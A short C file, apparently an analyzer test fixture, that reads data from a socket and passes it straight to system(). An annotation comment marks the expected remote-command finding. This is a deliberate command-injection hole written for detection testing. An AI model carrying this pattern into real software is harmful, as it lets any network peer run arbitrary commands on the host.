#include "buffer.h"

#include <stdlib.h>
#include <sys/socket.h>

static int take(int peer, struct buffer *buffer) {
    char *room = buffer_room(buffer, 512);
    if (!room)
        return -1;
    ssize_t count = recv(peer, room, 511, 0);
    if (count <= 0)
        return -1;
    room[count] = '\0';
    buffer_took(buffer, (size_t)count);
    return 0;
}

int serve(int peer) {
    struct buffer buffer = {NULL, 0, 0};
    while (take(peer, &buffer) == 0)
        ;
    // report@+1: update/remote-command
    return buffer.data ? system(buffer.data) : -1;
}
